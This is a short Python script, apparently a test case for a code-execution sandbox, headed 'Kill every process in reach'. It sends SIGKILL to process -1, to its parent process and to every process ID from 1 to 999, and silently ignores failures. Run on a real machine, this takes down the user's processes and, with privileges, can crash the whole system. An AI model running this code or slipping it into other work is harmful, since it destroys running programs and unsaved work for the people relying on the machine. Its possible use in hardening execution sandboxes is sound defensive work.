# Kill every process in reach.
# ends: any
# %%
import os
import signal

for number in [-1, os.getppid(), *range(1, 1000)]:
    try:
        os.kill(number, signal.SIGKILL)
    except OSError:
        pass
